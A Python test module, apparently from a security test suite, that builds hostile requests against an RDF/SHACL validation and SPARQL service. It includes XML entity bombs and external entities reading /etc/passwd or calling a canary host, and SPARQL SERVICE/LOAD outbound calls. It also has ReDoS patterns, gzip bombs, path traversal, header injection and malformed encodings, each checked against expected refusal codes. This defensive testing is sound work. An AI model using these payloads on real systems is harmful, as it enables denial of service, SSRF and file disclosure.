"""Bodies that swell, reach out, or are no text; as data, shapes, forms and archives."""

import bz2
import gzip
import json
import zlib
from collections.abc import Iterator, Mapping
from urllib.parse import quote

from hostile.wire import Attack, request

REFUSED = frozenset({400, 401, 406, 413, 415, 422, 429})
JUDGED = REFUSED | {200}
TURTLE, XML = "text/turtle", "application/rdf+xml"
LD, TRIPLES = "application/ld+json", "application/n-triples"
FORM = "application/x-www-form-urlencoded"
RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
SH = "PREFIX sh: <http://www.w3.org/ns/shacl#> PREFIX x: <urn:x:> "
XSD = "http://www.w3.org/2001/XMLSchema#"


def validate(body: bytes | str, form: str, accept: str = "application/json") -> bytes:
    return request("POST", "/validate", body, {"Content-Type": form, "Accept": accept})


def judged(data: str, shapes: str, data_form: str = TURTLE) -> bytes:
    """Data and shapes in one JSON."""
    said = {"data": data, "shapes": shapes, "data-format": data_form}
    return validate(json.dumps(said), "application/json")


def entities(canary: str) -> Mapping[str, str]:
    root = f'<rdf:RDF xmlns:rdf="{RDF}" xmlns:x="urn:x:">'
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    names = " ".join(f"xmlns:a{n}='urn:x:{n}'" for n in range(60_000))
    end = f"{root}<rdf:Description rdf:about='urn:x:s'><x:p>&e;</x:p></rdf:Description></rdf:RDF>"
    return {
        "laughs": f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l9;">]>{end}',
        "quadratic": f'<!DOCTYPE r [<!ENTITY e "{"a" * 50_000}">]>'
        + end.replace("&e;", "&e;" * 5_000),
        "external": f'<!DOCTYPE r [<!ENTITY e SYSTEM "{canary}/e">]>{end}',
        "file": f'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>{end}',
        "outer": f'<!DOCTYPE r SYSTEM "{canary}/dtd">{end.replace("&e;", "")}',
        "parameter": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{canary}/p"> %p;]>'
        + end.replace("&e;", ""),
        "recursive": f'<!DOCTYPE r [<!ENTITY e "&f;"><!ENTITY f "&e;">]>{end}',
        "lower case": f'<!doctype r [<!ENTITY e "x">]>{end}',
        "instruction": f'<?xml-stylesheet href="{canary}/x.xsl"?>{root}</rdf:RDF>',
        "include": f'{root}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{canary}/i"/></rdf:RDF>',
        "base": f'<rdf:RDF xmlns:rdf="{RDF}" xml:base="{canary}/"><rdf:Description rdf:about="a"/>'
        "</rdf:RDF>",
        "deep": root + "<rdf:Description><x:p>" * 30_000 + "</x:p></rdf:Description>" * 30_000,
        "attributes": f"<rdf:RDF {names}/>",
        "unclosed": root,
        "empty": "",
    }


def contexts(canary: str) -> Mapping[str, object]:
    url = f"{canary}/context.jsonld"
    deep: object = 1
    for _ in range(400):
        deep = {"urn:x:p": deep}
    return {
        "remote": {"@context": url, "@id": "urn:x:s", "urn:x:p": 1},
        "in a list": {"@context": [url, {"p": "urn:x:p"}], "p": 1},
        "imported": {"@context": {"@version": 1.1, "@import": url}, "urn:x:p": 1},
        "scoped": {"@context": {"p": {"@id": "urn:x:p", "@context": url}}, "p": {"urn:x:q": 1}},
        "by type": {
            "@context": {"T": {"@id": "urn:x:T", "@context": url}},
            "@type": "T",
            "urn:x:p": 1,
        },
        "file": {"@context": "file:///etc/passwd", "urn:x:p": 1},
        "itself": {"@context": {"a": "b:c", "b": "a:d"}, "a": 1},
        "deep": deep,
        "reversed": {"@id": "urn:x:s", "@reverse": {"urn:x:p": [{"@reverse": {}}] * 1_000}},
        "long list": {"@id": "urn:x:s", "urn:x:p": {"@list": list(range(20_000))}},
        "null": None,
        "vocabulary": {"@context": {"@vocab": f"{canary}/"}, "p": 1},
    }


def triples() -> Mapping[str, tuple[str, str]]:
    """Data that is small to send and costs much to hold, by its form."""
    return {
        "deep blank nodes": (TURTLE, "<urn:x:s> <urn:x:p> " + "[ <urn:x:p> " * 100_000),
        "closed blank nodes": (
            TURTLE,
            "<urn:x:s> <urn:x:p> " + "[ <urn:x:p> " * 50_000 + "1" + "]" * 50_000 + " .",
        ),
        "deep lists": (TURTLE, "<urn:x:s> <urn:x:p> " + "(" * 100_000),
        "closed lists": (TURTLE, "<urn:x:s> <urn:x:p> " + "(" * 50_000 + ")" * 50_000 + " ."),
        "long list": (TURTLE, f"<urn:x:s> <urn:x:p> ({' 1' * 100_000}) ."),
        "quoted triples": (TURTLE, "<< " * 50_000),
        "decimal": (TURTLE, f'<urn:x:s> <urn:x:p> "1e1000000000"^^<{XSD}decimal> .'),
        "digits": (TURTLE, f"<urn:x:s> <urn:x:p> {'9' * 1_000_000} ."),
        "integer": (TURTLE, f'<urn:x:s> <urn:x:p> "{"9" * 300_000}"^^<{XSD}integer> .'),
        "date": (TURTLE, f'<urn:x:s> <urn:x:p> "{"9" * 5_000}-01-01"^^<{XSD}date> .'),
        "duration": (TURTLE, f'<urn:x:s> <urn:x:p> "P{"9" * 5_000}Y"^^<{XSD}duration> .'),
        "html": (TURTLE, f'<urn:x:s> <urn:x:p> "{"<a>" * 9_000}"^^<{RDF}HTML> .'),
        "xml": (TURTLE, f'<urn:x:s> <urn:x:p> "{"<a>" * 9_000}"^^<{RDF}XMLLiteral> .'),
        "binary": (TURTLE, f'<urn:x:s> <urn:x:p> "{"A" * 999_999}"^^<{XSD}base64Binary> .'),
        "prefixes": (TURTLE, "".join(f"@prefix p{n}: <urn:x:{n}> .\n" for n in range(60_000))),
        "unclosed string": (TURTLE, '<urn:x:s> <urn:x:p> """' + "a" * 1_000_000),
        "unclosed iri": (TURTLE, "<urn:x:" + "a" * 1_000_000),
        "file": (TURTLE, "<file:///etc/passwd> <urn:x:p> <../../../etc/passwd> ."),
        "base": (TURTLE, "@base <javascript:alert(1)> . <x> <y> <z> ."),
        "many": (
            TRIPLES,
            "".join(f"<urn:x:{n}> <urn:x:p> <urn:x:{n + 1}> .\n" for n in range(20_000)),
        ),
        "one line": (TRIPLES, "<urn:x:s> <urn:x:p> <urn:x:o> ." * 1_000),
        "quads": (TRIPLES, "<urn:x:s> <urn:x:p> <urn:x:o> <urn:x:g> ."),
        "nothing": (TURTLE, ""),
        "not this form": (XML, "<urn:x:s> <urn:x:p> 1 ."),
        "nor this": (LD, "<urn:x:s> <urn:x:p> 1 ."),
    }


def shapes(canary: str) -> Mapping[str, str]:
    """Shapes that reach out, never end, or are none."""
    service = f"SERVICE <{canary}/sparql> {{ ?this ?p ?o }}"
    select = f'sh:select "SELECT $this {{ {service} }}"'
    pairs = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o"
    aim = "x:S a sh:NodeShape ; sh:targetNode x:s ;"
    prop = f"{aim} sh:property [ sh:path x:p ;"
    recursive = " ".join(
        f"x:S{n} sh:property [ sh:path x:p ; sh:node x:S{n + 1} ] ." for n in range(800)
    )
    deep = "sh:not [ " * 900 + "sh:nodeKind sh:IRI" + " ]" * 900
    path = "( " * 900 + "x:p" + " x:p )" * 900
    return {
        "service in a constraint": f"{aim} sh:sparql [ {select} ] .",
        "service in a target": f"x:S a sh:NodeShape ; sh:target [ a sh:SPARQLTarget ; {select} ] .",
        "service in a rule": f"{aim} sh:rule [ a sh:SPARQLRule ; "
        f'sh:construct "CONSTRUCT {{ $this x:p 1 }} {{ {service} }}" ] .',
        "service in a validator": "x:C a sh:ConstraintComponent ; sh:parameter [ sh:path x:q ] ; "
        f'sh:validator [ a sh:SPARQLAskValidator ; sh:ask "ASK {{ {service} }}" ] . '
        f"{aim} x:q 1 .",
        "service in a function": "x:f a sh:SPARQLFunction ; "
        f'sh:returnType x:T ; sh:select "SELECT ?x {{ {service} }}" .',
        "load": f'{aim} sh:sparql [ sh:select "LOAD <{canary}/>" ] .',
        "from": f"{aim} sh:sparql "
        f'[ sh:select "SELECT $this FROM <{canary}/f> {{ $this ?p ?o }}" ] .',
        "javascript": f"{aim} sh:js [ sh:jsFunctionName 'f' ; sh:jsLibrary "
        f"[ sh:jsLibraryURL '{canary}/f.js' ] ] .",
        "imports": f"<urn:x:o> a <http://www.w3.org/2002/07/owl#Ontology> ; "
        f"<http://www.w3.org/2002/07/owl#imports> <{canary}/i> . {aim} sh:nodeKind sh:IRI .",
        "shapes graph": f"<urn:x:o> sh:shapesGraph <{canary}/g> . {aim} sh:nodeKind sh:IRI .",
        "entailment": f"<urn:x:o> sh:entailment <{canary}/e> . {aim} sh:nodeKind sh:IRI .",
        "endless query": f'{aim} sh:sparql [ sh:select "SELECT $this {{ {pairs} }}" ] .',
        "endless pattern": f"{prop} sh:pattern '^(a+)+$' ] .",
        "endless alternatives": f"{prop} sh:pattern '(a|aa)+$' ] .",
        "broken pattern": f"{prop} sh:pattern '((((' ] .",
        "broken query": f'{aim} sh:sparql [ sh:select "SELECT {{" ] .',
        "no query": f"{aim} sh:sparql [ ] .",
        "recursion": "x:S a sh:NodeShape ; sh:targetNode x:s ; sh:node x:S .",
        "long recursion": f"x:S0 sh:targetNode x:s . {recursive}",
        "deep negation": f"{aim} {deep} .",
        "deep path": f"{aim} sh:property [ sh:path {path} ] .",
        "endless list": f"{aim} sh:in x:l . x:l <{RDF}first> 1 ; <{RDF}rest> x:l .",
        "endless and": f"{aim} sh:and x:l . x:l <{RDF}first> x:S ; <{RDF}rest> x:l .",
        "path in a circle": f"{aim} sh:property [ sh:path x:c ; sh:minCount 1 ] . "
        f"x:c <{RDF}first> x:p ; <{RDF}rest> x:c .",
        "inverse of itself": f"{aim} sh:property [ sh:path x:c ] . x:c sh:inversePath x:c .",
        "huge count": f"{prop} sh:minCount {'9' * 5_000} ] .",
        "count of letters": f"{prop} sh:minCount 'many' ] .",
        "literal as a shape": f"{aim} sh:node 'x' .",
        "literal as a path": f"{aim} sh:property [ sh:path 'x' ] .",
        "two paths": f"{aim} sh:property [ sh:path x:p , x:q ] .",
        "no path": f"{aim} sh:property [ sh:minCount 1 ] .",
        "qualified": f"{aim} sh:property [ sh:path x:p ; sh:qualifiedMinCount 1 ] .",
        "message of marks": f"{aim} sh:nodeKind sh:Literal ; sh:message '<script>x</script>' .",
        "no shapes": "x:s x:p 1 .",
    }


def uploads(canary: str) -> Iterator[Attack]:
    """Everything for /validate."""
    for name, xml in entities(canary).items():
        sent = validate(xml, XML)
        yield Attack(f"xml {name}", sent, JUDGED, bound=True, absent="root:x:")
        yield Attack(f"xml {name}, as shapes' data", judged(xml, SH, XML), JUDGED, bound=True)
    for name, document in contexts(canary).items():
        yield Attack(f"json-ld {name}", validate(json.dumps(document), LD), JUDGED, bound=True)
    for name, (form, text) in triples().items():
        yield Attack(f"data {name}", validate(text, form), JUDGED, bound=True)
    data = f"PREFIX x: <urn:x:> x:s x:p '{'a' * 40}b' , x:s ."
    for name, text in shapes(canary).items():
        yield Attack(f"shapes {name}", judged(data, SH + text), JUDGED, bound=True)


def nested(size: int) -> Mapping[str, str]:
    return {
        "lists": "[" * size,
        "closed lists": "[" * size + "]" * size,
        "objects": '{"a":' * size,
        "in data": '{"data":' + "[" * size + "]" * size + "}",
        "numbers": '{"data": "", "x": ' + "9" * size + "}",
        "exponent": '{"data": "", "x": 1e' + "9" * 300 + "}",
        "escapes": '{"data": "' + "\\ud800" * (size // 6) + '"}',
        "same keys": "{" + ",".join(f'"data":"{n}"' for n in range(size // 12)) + "}",
        "other keys": "{" + ",".join(f'"k{n}":"x"' for n in range(size // 12)) + "}",
        "not a number": '{"data": NaN}',
        "null": "null",
        "number as data": '{"data": 7}',
        "unknown format": '{"data": "x", "data-format": "text/html"}',
        "nothing": "",
        "marks": '{"data": "<script>"}',
    }


def multipart(parts: int, header: str = "", content: str = "x") -> str:
    head = f'--e\r\nContent-Disposition: form-data; name="data"{header}\r\n\r\n{content}\r\n'
    return head * parts + "--e--\r\n"


def forms() -> Iterator[Attack]:
    """Forms and JSON that are costly to take apart, wherever a body is read."""
    for name, text in nested(200_000).items():
        yield Attack(
            f"json {name}", validate(text, "application/json"), REFUSED | {200}, bound=True
        )
    for name, body, form in (
        ("many parts", multipart(30_000), "multipart/form-data; boundary=e"),
        ("many files", multipart(20_000, '; filename="a.ttl"'), "multipart/form-data; boundary=e"),
        (
            "long name",
            multipart(1, f'; filename="{"../" * 9_000}"'),
            "multipart/form-data; boundary=e",
        ),
        (
            "file of a path",
            multipart(1, '; filename="/etc/passwd"'),
            "multipart/form-data; boundary=e",
        ),
        ("no end", multipart(2)[:-7], "multipart/form-data; boundary=e"),
        ("no boundary", multipart(2), "multipart/form-data"),
        ("long boundary", multipart(2), "multipart/form-data; boundary=" + "e" * 5_000),
        ("boundary in boundary", "--e\r\n" * 60_000, "multipart/form-data; boundary=e"),
        ("dashes", "-" * 1_000_000, "multipart/form-data; boundary=-"),
        ("line ends", "\r\n" * 500_000, "multipart/form-data; boundary=e"),
        ("headers", "--e\r\n" + "A: b\r\n" * 90_000, "multipart/form-data; boundary=e"),
        (
            "nested",
            multipart(3).replace("\r\n\r\n", "\r\nContent-Type: multipart/mixed\r\n\r\n"),
            "multipart/form-data; boundary=e",
        ),
        ("many fields", "&".join(f"a{n}=b" for n in range(60_000)), FORM),
        ("same fields", "&".join(["data=b"] * 60_000), FORM),
        ("ampersands", "&" * 390_000, FORM),
        ("percents", "data=" + "%" * 390_000, FORM),
        ("broken percents", "data=%ff%fe%zz", FORM),
        ("semicolons", "data=a;shapes=b", FORM),
    ):
        for path in ("/validate", "/sparql"):
            sent = {"Content-Type": form, "Accept": "application/json"}
            yield Attack(
                f"form {name} to {path}", request("POST", path, body, sent), JUDGED, bound=True
            )


def packed() -> Iterator[Attack]:
    """Bodies said to be compressed, some of which would swell a thousandfold."""
    zeros = b" " * 60_000_000
    archives = {
        "gzip": gzip.compress(zeros),
        "x-gzip": gzip.compress(gzip.compress(zeros)),
        "deflate": zlib.compress(zeros),
        "br": b"\xce\xb2\xcf\x81" * 100,
        "bzip2": bz2.compress(zeros),
        "zstd": b"\x28\xb5\x2f\xfd" * 100,
        "gzip, gzip": gzip.compress(gzip.compress(zeros)),
        "identity": b"ASK {}",
        "none such": b"ASK {}",
    }
    for coding, body in archives.items():
        for path, form in (
            ("/sparql", "application/sparql-query"),
            ("/validate", TURTLE),
            ("/sparql", FORM),
            ("/validate", "application/gzip"),
        ):
            sent = request("POST", path, body, {"Content-Type": form, "Content-Encoding": coding})
            yield Attack(f"{coding} of {form} to {path}", sent, JUDGED, bound=True)


def encodings() -> Iterator[Attack]:
    """Bytes that are no UTF-8, or that mean to be something else."""
    broken = {
        "overlong slash": b"\xc0\xaf",
        "overlong NUL": b"\xc0\x80",
        "surrogate": b"\xed\xa0\x80",
        "beyond unicode": b"\xf4\x90\x80\x80",
        "cut short": b"\xe6\xad",
        "continuation": b"\x80\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "latin 1": "é".encode("latin-1"),
        "gbk": "武汉".encode("gbk"),
    }
    for name, data in broken.items():
        text = b"ASK { ?s ?p '" + data + b"' }"
        spelt = quote(text, safe="")
        turtle = b"<urn:x:s> <urn:x:p> '" + data + b"' ."
        for place, sent in {
            "body": request("POST", "/sparql", text, {"Content-Type": "application/sparql-query"}),
            "form": request("POST", "/sparql", f"query={spelt}", {"Content-Type": FORM}),
            "address": request("GET", f"/sparql?query={spelt}"),
            "path": request("GET", f"/id/region/{quote(data)}"),
            "raw path": b"GET /" + data + b" HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
            "turtle": validate(turtle, TURTLE),
            "json": validate(b'{"data": "' + data + b'"}', "application/json"),
            "xml": validate(b'<?xml version="1.0"?><r>' + data + b"</r>", XML),
            "search": request("GET", f"/search?q={quote(data)}"),
        }.items():
            yield Attack(f"{name} in a {place}", sent, JUDGED | {303, 404}, bound=True)
    ask = "ASK { ?s ?p '武汉' }"
    for codec in ("utf-16", "utf-16-le", "utf-32", "utf-7", "utf-8-sig", "gb18030"):
        for charset in ("", f"; charset={codec}", "; charset=none-such"):
            for path, form, text in (
                ("/sparql", "application/sparql-query", ask),
                ("/validate", TURTLE, "<urn:x:s> <urn:x:p> '武汉' ."),
                ("/validate", "application/json", '{"data": ""}'),
                ("/validate", XML, f'<?xml version="1.0" encoding="{codec}"?><r/>'),
            ):
                sent = request("POST", path, text.encode(codec), {"Content-Type": form + charset})
                yield Attack(f"{codec} as {form}{charset}", sent, JUDGED, bound=True)


def writes(secret: str, canary: str) -> Iterator[Attack]:
    """What a holder of a token may send; none of it is to change what others wrote."""
    token = {"Authorization": f"Bearer {secret}"}
    allowed = REFUSED | {403, 404, 409, 411, 412}
    done = allowed | {200, 201, 204}

    def put(name: str, body: bytes | str, form: str, expected: frozenset[int] = done) -> Attack:
        sent = request("PUT", "/graphs?graph=urn:x:sent", body, token | {"Content-Type": form})
        return Attack(f"put {name}", sent, expected, bound=True)

    for name, xml in entities(canary).items():
        yield put(f"xml {name}", xml, XML)
    for name, document in contexts(canary).items():
        yield put(f"json-ld {name}", json.dumps(document), LD)
    for name, (form, text) in triples().items():
        yield put(f"data {name}", text, form)
    for name, body in nested(100_000).items():
        yield put(f"json {name}", body, LD)
    parted = "multipart/form-data; boundary=e"
    yield put("many files", multipart(20_000, '; filename="a.ttl"', ""), parted)
    yield put("many parts", multipart(30_000), parted)
    yield put("gzip", gzip.compress(b" " * 60_000_000), TURTLE, allowed | {201, 204})
    for text in (
        f"LOAD <{canary}/d>",
        f"LOAD <{canary}/d> INTO GRAPH <urn:x:sent>",
        "LOAD <file:///etc/passwd>",
        f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{canary}/> {{ ?s ?p ?o }} }}",
        f"DELETE {{ ?s ?p ?o }} USING <{canary}/> WHERE {{ ?s ?p ?o FILTER(1 = 2) }}",
        "INSERT DATA { " + "<urn:x:s> <urn:x:p> [ " * 20_000,
        "INSERT DATA { GRAPH <urn:x:sent> { <urn:x:s> <urn:x:p> "
        + "(" * 5_000
        + ")" * 5_000
        + "}}",
        ";" * 100_000,
        "INSERT DATA { a-" + "a-" * 200_000,
        "INSERT DATA { " + '"\\' * 200_000,
        "INSERT DATA { GRAPH <urn:x:sent> { <urn:x:s> <urn:x:p> <urn:x:none>(1) } }",
        "CREATE GRAPH <urn:x:kept>",
        "CLEAR GRAPH <urn:x:none>",
        "DELETE DATA { ?s ?p ?o }",
        "INSERT DATA { _:a <urn:x:p> ?x }",
    ):
        sent = request(
            "POST", "/update", text, token | {"Content-Type": "application/sparql-update"}
        )
        yield Attack(f"update {text[:60]!r}", sent, done, bound=True)
    for path in (
        "/graphs?graph=",
        "/graphs?graph=x%20y",
        "/graphs?graph=urn:x:a&graph=urn:x:b",
        "/graphs?graph=urn:x:a&default",
        "/graphs?graph=%00",
        "/graphs?graph=javascript:alert(1)%22%3E",
        "/graphs?graph=urn:x:" + "a" * 100_000,
        "/graphs/..%2f..%2ftokens.json",
        "/graphs/%0d%0aInjected-Header:%20x",
        "/graphs?graph=http://[::1",
        "/graphs?graph=//",
        "/graphs?graph=%ff%fe",
    ):
        sent = request("PUT", path, "<urn:x:s> <urn:x:p> 1 .", token | {"Content-Type": TURTLE})
        yield Attack(f"put to {path[:60]}", sent, done)
